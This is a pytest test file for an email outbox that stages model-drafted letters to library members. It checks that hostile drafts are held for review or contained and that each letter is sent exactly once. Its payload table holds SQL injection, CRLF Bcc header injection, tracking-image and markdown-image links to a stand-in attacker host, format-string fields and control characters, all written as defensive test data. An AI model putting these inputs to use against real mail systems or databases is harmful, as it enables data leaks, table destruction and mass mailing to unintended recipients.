"""Letters of a model: ten payloads that are contained, five letters that go out, each once."""

import sqlite3
from dataclasses import replace

import pytest

from labkit.errors import ArgumentError
from labkit.reliability import Draft, Member, Outbox, stage_email
from labkit.reliability.outbox import LONGEST_BODY

ROSA = Member("m-1", "Rosa Mill", "rosa@example.org")
OTHERS = ("Kofi", "Rosa Mill", "", "J. R.")
PAYLOADS = {
    "a quote in SQL": ("'); drop table outbox; --", "ready"),
    "a markdown image": ("Look: ![x](https://evil.example/?q=fee)", "review"),
    "a beacon": ('Thanks <img src="//evil.example/p.gif">', "review"),
    "CRLF and Bcc": ("Hello\r\nBcc: all@evil.example\r\n\r\nBuy", "review"),
    "a header on a line of its own": ("Subject: You won\nBcc: all", "review"),
    "empty": (" \n\t", "nothing"),
    "another member's name": ("Kofi still has your drill.", "review"),
    "another name that ends in a point": ("Ask J. R. for it.", "review"),
    "forty kilobytes": ("word " * 8_000, "review"),
    "one long word": ("a" * 400_000, "review"),
    "a lone surrogate": ("Fine \ud800", "ready"),
    "a format field": ("Dear {member.__class__}, %s ${x}", "ready"),
    "NUL": ("Fine\x00 and more", "review"),
    "an escape": ("\x1b[31mred", "review"),
    "text that is turned round": ("Pay \u202e001 crowns", "review"),
    "an address": ("Write to me@evil.example", "review"),
}
BENIGN = (
    "Your drill is due on Saturday.",
    "Dear Rosa,\n\nthe fee is 30\u00a0crowns – or 15 with the concession rate.\n\tKofia",
    "¿Puede venir el sábado? La taladradora cuesta 5 coronas.",
    "Is 3 < 5? Yes & no: it's “fine”. To be honest: a > b.",
    "x" * LONGEST_BODY,
)


class Crash(BaseException):
    """The process dies."""


def outbox():
    """An outbox in memory."""
    return Outbox(sqlite3.connect(":memory:"))


def staged(words, **changes):
    """A letter to Rosa."""
    return stage_email(Draft(words), ROSA, other_names=OTHERS, **changes)


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_payload_is_contained(name):
    """Only the member gets it, the head has two lines of the app, the table stands."""
    words, state = PAYLOADS[name]
    box, mail = outbox(), []
    row = staged(words)
    assert row.state == state, row.reasons
    assert bool(row.reasons) == (state != "ready")
    assert box.put(row) == (state != "nothing")
    box.release(row.key)
    assert box.deliver(mail.append) == (state != "nothing")
    for letter in mail:
        head = letter.as_bytes().partition(b"\n\n")[0]
        assert letter["To"] == "rosa@example.org"
        assert letter["Subject"] == "Your message from the Library of Things"
        assert (letter["Bcc"], letter["Cc"], len(letter.get_all("To"))) == (None, None, 1)
        assert b"evil" not in head
        assert letter.get_content_type() == "text/plain"
        assert len(letter.get_content()) <= LONGEST_BODY + 1
    assert box.put(staged("Another letter."))
    assert len(box.rows("ready")) == 1


def test_what_a_letter_says_is_what_the_draft_said():
    """Nothing is filled in, nothing is escaped twice."""
    mail = []
    box = outbox()
    for words in ("Dear {member.__class__}, %s", "'); drop table outbox; --"):
        box.put(staged(words))
    assert box.deliver(mail.append) == 2
    assert [one.get_content().strip() for one in mail] == [
        "Dear {member.__class__}, %s",
        "'); drop table outbox; --",
    ]


@pytest.mark.parametrize("words", BENIGN)
def test_a_benign_letter_goes_out(words):
    """Ordinary marks, spaces and letters of other languages need no look."""
    box, mail = outbox(), []
    row = staged(words)
    assert (row.state, row.reasons) == ("ready", ())
    assert box.put(row)
    assert box.deliver(mail.append) == 1
    assert mail[0].get_content().rstrip("\n") == words
    assert box.rows("sent")[0].body == words


def test_a_person_reads_why_it_waits():
    """One reason for each mark, name and length."""
    row = staged(f"Kofi\r\nBcc: a@b <b> https://x {'y ' * 3_000}")
    assert row.reasons == (
        "it has a link",
        "it has markup",
        "it has an address",
        "it has a line that looks like a header",
        "it has control characters",
        "it names Kofi",
        "it was cut at 4,000 of 6,028 characters",
    )
    box = outbox()
    box.put(row)
    assert box.rows("review") == [row]


def test_the_same_letter_goes_out_once():
    """Put in twice, delivered twice, put in again after it was sent."""
    box, mail = outbox(), []
    assert [box.put(staged("Due on Saturday.")) for _ in range(2)] == [True, False]
    assert [box.deliver(mail.append) for _ in range(2)] == [1, 0]
    assert not box.put(staged("Due on Saturday."))
    assert box.deliver(mail.append) == 0
    assert len(mail) == 1


def test_another_member_another_subject_and_another_end_are_other_letters():
    """The key knows the whole draft, also what was cut off."""
    kofi = Member("m-2", "Kofi", "kofi@example.org")
    long = "word " * 8_000
    rows = [
        staged("Due."),
        stage_email(Draft("Due."), kofi),
        staged("Due.", subject="Due"),
        staged(long),
        staged(long + "end"),
    ]
    assert len({row.key for row in rows}) == 5


def test_a_crash_between_mark_and_send_loses_no_count():
    """It is not sent twice; a person finds it and can let it go again."""
    box, mail = outbox(), []
    first, second = staged("One."), staged("Two.")
    box.put(first)
    box.put(second)

    def crashes(letter):
        raise Crash

    with pytest.raises(Crash):
        box.deliver(crashes)
    assert [row.key for row in box.rows("sending")] == [first.key]
    assert box.deliver(mail.append) == 1
    assert [one.get_content() for one in mail] == ["Two.\n"]
    assert box.release(first.key)
    assert box.deliver(mail.append) == 1
    assert [row.key for row in box.rows("sent")] == [first.key, second.key]


def test_two_workers_do_not_send_one_letter_twice():
    """The second one has read the row before the first one marks it."""
    box, mail = outbox(), []
    box.put(staged("One."))

    def sends(letter):
        mail.append(letter)
        assert box.deliver(mail.append) == 0

    [row] = box.rows("ready")
    assert box.deliver(sends) == 1
    assert not box._send(row, mail.append)
    assert len(mail) == 1


def test_nothing_is_released_that_does_not_wait():
    """An unknown key, a letter that is ready, one that was sent."""
    box = outbox()
    row = staged("One.")
    box.put(row)
    assert not box.release("nothing")
    assert not box.release(row.key)
    box.deliver(lambda letter: None)
    assert not box.release(row.key)


def test_letters_outlive_the_process(tmp_path):
    """They stand in the file, in the order in which they were put in."""
    path = tmp_path / "letters.db"
    first = sqlite3.connect(path)
    box = Outbox(first)
    for words in ("b", "a"):
        box.put(staged(words))
    first.close()
    again = sqlite3.connect(path)
    assert [row.body for row in Outbox(again).rows("ready")] == ["b", "a"]
    again.close()


@pytest.mark.parametrize(
    "email",
    [
        "rosa",
        "rosa@",
        "@example.org",
        "rosa@example.org, all@evil.example",
        "rosa@example.org\nBcc: all@evil.example",
        "<rosa@example.org>",
        "Rosa <rosa@example.org>",
        "a@b@c",
        "rosa@example.org;x",
        "é@example.org",
        "rosa(x)@example.org",
    ],
)
def test_an_address_is_the_address_of_one_person(email):
    """No list, no line break, no name before it."""
    with pytest.raises(ArgumentError, match=r"^email is "):
        Member("m", "Rosa", email)


@pytest.mark.parametrize("subject", ["Hello\nBcc: all@evil.example", "", " ", "\ud800", None, 7])
def test_a_subject_is_one_line(subject):
    """The library would refuse it only when the letter goes out."""
    with pytest.raises(ArgumentError, match=r"^subject is "):
        staged("One.", subject=subject)


def test_ordinary_addresses_and_names_are_members():
    """Plus signs, apostrophes, other letters in a name."""
    for email in ("o'brien+tools@mail.example.org", "a@localhost"):
        assert Member("7", "Zoë Müller", email).email == email


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("key", 7),
        ("key", 10**30),
        ("member_id", ""),
        ("to", "a@b\nBcc: c@d"),
        ("subject", ["x"]),
        ("subject", "a\r\nb"),
        ("body", None),
        ("body", b"x"),
        ("body", "half \ud800"),
        ("state", "lost"),
        ("reasons", None),
        ("reasons", [7]),
    ],
)
def test_a_letter_that_could_not_be_kept_or_sent_is_refused(field, value):
    """Where it is made, not by the database or the mail's library later."""
    row = stage_email(Draft("Hello."), Member("m-1", "Noor", "noor@lantern.example"))
    with pytest.raises(ArgumentError, match=r"\. .*\. Give|\. .*\. Use"):
        replace(row, **{field: value})
